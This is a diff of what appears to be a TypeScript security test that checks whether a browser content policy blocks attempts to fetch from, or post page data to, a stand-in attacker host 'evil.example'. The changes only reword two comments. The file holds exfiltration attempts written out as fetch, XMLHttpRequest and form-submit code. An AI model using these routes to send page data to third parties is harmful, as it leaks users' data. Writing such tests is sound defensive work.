@@ -3,7 +3,7 @@ import type { Attack } from './attack';
 
 const evil = 'https://evil.example';
 
-/** Each begins to fetch something of a stranger's, or to run what did not come with the app: then it sets `ran`. */
+/** Each starts to load data from a third party, or to run code that did not come with the app. Then it sets `ran`. */
 const pastThePolicy: Readonly<Record<string, (url: string) => unknown>> = {
   fetch: (url) => void fetch(url).catch(() => {}),
   XMLHttpRequest: (url) => {
@@ -61,7 +61,10 @@ const pastThePolicy: Readonly<Record<string, (url: string) => unknown>> = {
   },
 };
 
-/** Each sends what the page knows to a stranger, and would navigate a frame by it: a second gate stands behind. */
+/**
+ * Each sends the page's data to a third party and would navigate a frame with it. A second gate also blocks that
+ * navigation.
+ */
 const byForm: Readonly<Record<string, (url: string) => unknown>> = {
   'a form that is sent': (url) => {
     const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
